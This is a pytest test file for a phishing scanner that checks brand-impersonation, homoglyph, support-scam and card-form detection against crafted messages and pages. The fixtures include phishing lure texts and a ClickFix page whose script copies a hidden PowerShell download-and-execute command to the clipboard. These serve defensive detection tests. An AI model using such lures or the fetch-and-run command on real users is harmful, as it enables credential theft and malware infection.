"""Message-level phishing signs (mailvm.triage.phishing), the ClickFix and brand-shell page findings of
mailvm.triage.html, and the whole pipeline on crafted messages: lures must reach suspicious or worse,
honest mail naming brands must not."""

from __future__ import annotations

import time
from email.message import EmailMessage

import pytest

from mailvm.config import Config
from mailvm.policy import Policy, decide
from mailvm.triage.html import html_findings
from mailvm.triage.phishing import (
    MessageView,
    brand_claim,
    message_findings,
    mixed_script_words,
    owns,
    skeleton,
)
from mailvm.verdict import MALICIOUS_THRESHOLD, SUSPICIOUS_THRESHOLD, Finding, score_findings


def _ids(findings: list[Finding]) -> dict[str, int]:
    return {f.id: f.severity for f in findings}


def _score(findings: list[Finding]) -> int:
    return score_findings(findings)[1]


# Latin text with Cyrillic/Greek letters in place of a, e, o, c, p (as spam traps see it)
HOMOGLYPH_TEXT = ("Yοur аccοunt hаs bееn limitеd. In оrdеr fоr us tо еnsurе thе sаfеty оf оur usеrs, "
                  "plеаsе updаtе yоur infоrmаtiоn.")


# -- pieces -------------------------------------------------------------------------------------------


def test_skeleton_and_mixed_words() -> None:
    assert skeleton("Yοur аccοunt") == "Your account"
    mixed = mixed_script_words(HOMOGLYPH_TEXT)
    assert "Yοur" in mixed and len(mixed) >= 10
    # whole words of one script are not mixed: Russian, Greek and English side by side
    assert mixed_script_words("Привет, мир! Καλημέρα κόσμε. Hello world, Москва и Athens.") == []


@pytest.mark.parametrize("display,subject,brand,where", [
    ("PayPal", "", "paypal", "display name"),
    ("PayPal Security", "", "paypal", "display name"),
    ("Apple Support", "", "apple", "display name"),
    ("Microsoft account team", "", "microsoft", "display name"),
    ("Wells Fargo Online", "", "wellsfargo", "display name"),
    ("ΡауΡаl Service", "", "paypal", "display name"),  # look-alike letters in the name itself
    ("Jane Doe", "Your PayPal account", "paypal", "subject"),
])
def test_brand_claim(display: str, subject: str, brand: str, where: str) -> None:
    c = brand_claim(display, subject)
    assert c is not None and (c.brand, c.where) == (brand, where)


@pytest.mark.parametrize("display", ["Chase Miller", "Tim from Apple Valley Farms", "Amazon Web Services Blog Team",
                                     "Steam Engine Society", "", "Jane Doe"])
def test_people_and_bodies_named_like_brands_claim_nothing(display: str) -> None:
    assert brand_claim(display, "Minutes of Tuesday") is None


def test_owns_uses_registrable_domain() -> None:
    assert owns("paypal", "paypal.com") and owns("paypal", "paypal.co.uk")
    assert owns("microsoft", "office365.com") and owns("apple", "icloud.com")
    assert not owns("paypal", "report.org") and not owns("paypal", "paypal-secure.com") and not owns("paypal", "")


# -- message_findings -------------------------------------------------------------------------------


def test_brand_lure_mismatched_link_reaches_suspicious() -> None:
    html = ('<p>Your account has been limited. Please verify your information within 24 hours.</p>'
            '<a href="http://secure-check.example.net/login">https://www.paypal.com/signin</a>')
    view = MessageView(sender="PayPal <service@notice-center.example.net>", subject="Action required",
                       text="Your account has been limited. Please verify your information within 24 hours.",
                       html=html)
    f = _ids(message_findings(view))
    assert f["msg_brand_impersonation"] >= MALICIOUS_THRESHOLD
    assert _score(message_findings(view)) >= MALICIOUS_THRESHOLD


def test_homoglyph_paypal_with_attached_form_is_malicious() -> None:
    view = MessageView(sender="PayPal Support <update214@review.example.org>", subject="Update your records",
                       text=HOMOGLYPH_TEXT, attachment_names=("FormAttached.html",))
    found = message_findings(view)
    f = _ids(found)
    assert f["msg_lookalike_letters"] >= 5  # look-alike letters and, read through them, lure language
    assert f["msg_brand_impersonation"] == 7
    detail = next(x.detail for x in found if x.id == "msg_brand_impersonation")
    assert "sent from example.org" in detail and "FormAttached.html" in detail


def test_brand_claim_alone_stays_below_suspicious() -> None:
    view = MessageView(sender="Apple <news@apple-fans.example.org>", subject="Fan club meeting",
                       text="See you on Friday at the fan club.")
    f = _ids(message_findings(view))
    assert 0 < f["msg_brand_impersonation"] < SUSPICIOUS_THRESHOLD


def test_german_lure_counts() -> None:
    view = MessageView(sender="PayPal Kundenservice <info@konto-hilfe.example.de>",
                       subject="Ihr Konto wurde eingeschränkt", text="Bitte bestätigen Sie Ihre Daten.",
                       html='<a href="https://konto-hilfe.example.de/x">Jetzt bestätigen</a>')
    f = _ids(message_findings(view))
    assert f["msg_brand_impersonation"] >= SUSPICIOUS_THRESHOLD


def test_real_paypal_receipt_stays_clean() -> None:
    html = ('<p>You sent a payment of $25.00 USD to Jane Doe.</p>'
            '<p><a href="https://www.paypal.com/myaccount/transactions">View transaction details</a></p>'
            '<p>To confirm your account settings, <a href="https://www.paypal.com/myaccount/settings">log in</a>.</p>'
            '<img src="https://www.paypalobjects.com/logo.png">')
    view = MessageView(sender="PayPal <service@paypal.com>", subject="Receipt for your payment to Jane Doe",
                       text="You sent a payment of $25.00 USD to Jane Doe. View transaction details.", html=html)
    assert message_findings(view) == []
    view = MessageView(sender="PayPal <service@intl.paypal.co.uk>", subject="Your account has been limited",
                       text="Your account has been limited until we hear from you.",
                       html='<a href="https://www.paypal.co.uk/resolutioncenter">Resolution Centre</a>')
    assert message_findings(view) == []  # the brand's own domain: forgery is SPF/DKIM/DMARC's question


def test_newsletter_with_many_links_stays_clean() -> None:
    links = "".join(f'<li><a href="https://news.example.org/2026/{i}">Story {i}: Microsoft, Apple and Google '
                    f'earnings</a></li>' for i in range(60))
    view = MessageView(sender="Tech Weekly <digest@news.example.org>",
                       subject="This week: Apple, Microsoft and PayPal news",
                       text="Tech Weekly digest. Unsubscribe at https://news.example.org/unsubscribe",
                       html=f"<html><body><h1>Tech Weekly</h1><ul>{links}</ul></body></html>")
    assert _score(message_findings(view)) < SUSPICIOUS_THRESHOLD
    assert "msg_brand_impersonation" not in _ids(message_findings(view))


def test_mailing_list_post_about_microsoft_stays_clean() -> None:
    text = ("On Windows the build fails with Microsoft Visual C++ 14. Microsoft's docs say to verify your "
            "installation; see https://learn.microsoft.com/cpp and https://bugs.python.org/issue1234 .\n"
            "-- \nPython-Dev mailing list https://mail.python.org/mailman/listinfo/python-dev")
    view = MessageView(sender="Jane Developer <jane@example.com>", reply_to="python-dev@python.org",
                       subject="Re: Building on Microsoft Windows", text=text)
    assert message_findings(view) == []
    # the list software names the list in the display name, with a lure-like sentence in the thread
    view = MessageView(sender="Microsoft Teams users via list <list@lists.example.org>",
                       subject="Re: account has been locked after update", text=text)
    assert _score(message_findings(view)) < SUSPICIOUS_THRESHOLD


def test_script_in_html_body_is_informational() -> None:
    view = MessageView(sender="Shop <news@shop.example.com>", subject="Offers",
                       html='<script type="application/ld+json">{"@context":"https://schema.org"}</script>'
                            '<p>Offers</p>')
    assert message_findings(view) == []
    view = MessageView(sender="Shop <news@shop.example.com>", subject="Offers",
                       html="<script>var a = 1;</script><p>Offers</p>")
    assert _ids(message_findings(view)) == {"msg_body_script": 2}


def test_hostile_headers_and_huge_text_are_bounded() -> None:
    view = MessageView(sender="\x00<<<@@@>>>" * 500, reply_to="=?utf-8?q?broken", subject="PayPal" * 1000,
                       text="аa " * 400_000, html="<a href=" * 50_000)
    t0 = time.monotonic()
    found = message_findings(view)
    assert all(isinstance(f, Finding) for f in found)
    assert time.monotonic() - t0 < 30  # generous: linear work, not a timing claim


# -- HTML pages -----------------------------------------------------------------------------------------


CLICKFIX = """<html><head><title>Just a moment...</title></head><body>
<h1>Verify you are human</h1>
<ol><li>Press <kbd>Win</kbd> + <kbd>R</kbd></li><li>Paste (<kbd>Ctrl</kbd>+<kbd>V</kbd>) and press Enter</li></ol>
<button id="b">Verify</button>
<script>document.getElementById('b').onclick=function(){navigator.clipboard.writeText('powershell -w h -c "iwr x|iex"');}</script>
</body></html>"""


def test_clickfix_page_is_malicious() -> None:
    f = _ids(html_findings(CLICKFIX))
    assert f["html_paste_command_lure"] >= MALICIOUS_THRESHOLD


def test_howto_page_with_run_box_but_no_clipboard_is_weak() -> None:
    page = ("<html><body><h2>Opening the registry editor</h2><p>Press Win + R, type regedit and press Enter. "
            "To paste a path, use Ctrl+V in the address bar.</p></body></html>")
    f = _ids(html_findings(page))
    assert f.get("html_paste_command_lure", 0) < SUSPICIOUS_THRESHOLD


def test_brand_shell_page_with_phone_number() -> None:
    menu = "".join(f'<a href="#">Item {i}</a>' for i in range(12))
    page = (f"<html><head><title>Contact - Official Apple Support</title></head><body>{menu}"
            "<p>Your computer is blocked. Call Apple Support at +1-888-555-0199 now.</p></body></html>")
    f = _ids(html_findings(page))
    assert f["html_brand_shell_page"] >= 5
    # the brand's real pages link somewhere; a documentation page naming a brand is no claim
    real = ("<html><head><title>Apple Support</title></head><body>"
            + "".join(f'<a href="https://support.apple.com/{i}">Topic {i}</a>' for i in range(12)) + "</body></html>")
    assert "html_brand_shell_page" not in _ids(html_findings(real))
    doc = ("<html><head><title>Building with Microsoft compilers</title></head><body>"
           + "".join(f'<a href="#s{i}">Section {i}</a>' for i in range(12)) + "<p>Call 1-800-555-0100</p></body></html>")
    assert "html_brand_shell_page" not in _ids(html_findings(doc))


# -- the pipeline --------------------------------------------------------------------------------------


def _message(sender: str, subject: str, text: str, html: str | None = None,
             attachment: tuple[str, bytes] | None = None, reply_to: str | None = None) -> bytes:
    m = EmailMessage()
    m["From"], m["To"], m["Subject"] = sender, "victim@example.com", subject
    m["Message-ID"] = "<1@example.net>"
    if reply_to:
        m["Reply-To"] = reply_to
    m.set_content(text)
    if html:
        m.add_alternative(html, subtype="html")
    if attachment:
        m.add_attachment(attachment[1], maintype="text", subtype="html", filename=attachment[0])
    return m.as_bytes()


@pytest.fixture(scope="module")
def scanner(tmp_path_factory):
    import dataclasses

    from mailvm.scan import Scanner
    from mailvm.triage import Triage

    work = tmp_path_factory.mktemp("phish")
    cfg = Config()
    cfg = dataclasses.replace(cfg, spool=dataclasses.replace(cfg.spool, dir=str(work / "spool")),
                              scantable=dataclasses.replace(cfg.scantable, path=str(work / "table")),
                              links=dataclasses.replace(cfg.links, enabled=False))

    class _NoPins:
        def get(self, sha: str) -> None:
            return None

    return Scanner(cfg, Triage(cfg.triage), None, None, pins=_NoPins())


def _decide(scanner, raw: bytes):
    from mailvm.milter.service import outcomes_from_report

    d = scanner.scan_message(raw, links=False).to_dict()
    msg = [Finding(f["id"], f["severity"], f.get("detail", "")) for f in d["findings"]]
    return decide(Policy(), outcomes_from_report(d), msg), d


def test_pipeline_flags_brand_lure_with_attached_form(scanner) -> None:
    page = b"<html><body><script>document.write('x')</script></body></html>"
    raw = _message("PayPal Security <secure779@secure.example.com>", "Important notice (Update)",
                   HOMOGLYPH_TEXT, attachment=("Attachment537.html", page))
    decision, d = _decide(scanner, raw)
    assert decision.verdict == "malicious", d["findings"]
    assert d["headers"]["from"].startswith("PayPal Security")


def test_pipeline_reply_to_is_read(scanner) -> None:
    raw = _message("Microsoft account team <no-reply@accounts-notice.example.com>", "Unusual sign-in activity",
                   "We detected unusual sign-in activity. Verify your account at https://ms-verify.example.com/a",
                   reply_to="helpdesk@freemail.example.org")
    decision, d = _decide(scanner, raw)
    assert d["headers"]["reply-to"] == "helpdesk@freemail.example.org"
    f = next(x for x in d["findings"] if x["id"] == "msg_brand_impersonation")
    assert "Reply-To at example.org" in f["detail"]
    assert decision.verdict in ("suspicious", "malicious")


def test_pipeline_keeps_brand_receipt_and_list_post_clean(scanner) -> None:
    receipt = _message("PayPal <service@paypal.com>", "Receipt for your payment",
                       "You sent $25.00 USD to Jane Doe. Details: https://www.paypal.com/activity",
                       html='<p>You sent $25.00 USD.</p><a href="https://www.paypal.com/activity">Details</a>')
    post = _message("Jane Developer <jane@example.com>", "Re: Microsoft compiler warnings",
                    "MSVC warns about this; see https://learn.microsoft.com/cpp/x and https://github.com/python/cpython",
                    reply_to="python-dev@python.org")
    for raw in (receipt, post):
        decision, d = _decide(scanner, raw)
        assert decision.verdict == "clean", d["findings"]
        assert not [f for f in d["findings"] if f["id"].startswith("msg_")]


def test_card_form_and_script_action() -> None:
    page = ('<html><body><form action="https://collect.example.net/p.php" method="post">'
            '<input name="cardnumber"><input name="cvv"><input name="exp"></form></body></html>')
    assert _ids(html_findings(page))["html_card_form"] >= 5
    page = '<form action="javascript:send()"><input type="text" name="user"></form>'
    assert _ids(html_findings(page))["html_form_script_action"] == 5
    # a search box posting to the site's own search is no payment form
    page = '<form action="https://docs.example.org/search"><input name="q" placeholder="Search"></form>'
    f = _ids(html_findings(page))
    assert "html_card_form" not in f and "html_form_script_action" not in f


@pytest.mark.parametrize("text,url,cta", [
    ("You received a new voicemail. Listen to the message with your email password.",
     "https://voicemail-box.ddns.net/play?id=8", "Play voicemail"),
    ("Your parcel is on hold because of unpaid customs fees.", "https://dhl-release.example.top/pay", "Pay now"),
])
def test_body_lures_password_and_parcel(text: str, url: str, cta: str) -> None:
    from mailvm.triage.body import body_findings

    f = _ids(body_findings(f'<p>{text}</p><a href="{url}">{cta}</a>', True))
    assert f.get("body_credential_lure", 0) >= SUSPICIOUS_THRESHOLD or f.get("body_risky_link", 0) >= 4, f
    # the same words beside an ordinary link stay informational
    f = _ids(body_findings(f'<p>{text}</p><a href="https://www.example.com/help">Help</a>', True))
    assert max(f.values(), default=0) < SUSPICIOUS_THRESHOLD


def test_brand_security_alert_from_its_mail_domain_stays_clean() -> None:
    view = MessageView(sender="Facebook <security@facebookmail.com>", subject="Unusual login activity",
                       text="We noticed unusual login activity on your account. https://www.facebook.com/checkpoint")
    assert message_findings(view) == []


def test_brand_written_as_web_address_claims_it() -> None:
    view = MessageView(sender="Amazon.com <order-update@amazon-orders.example.net>",
                       subject="Your account has been locked",
                       text="Your account has been locked. Verify your information: https://amazon-orders.example.net/v")
    assert _ids(message_findings(view))["msg_brand_impersonation"] >= SUSPICIOUS_THRESHOLD
    assert brand_claim("Chase de la Cruz", "") is None
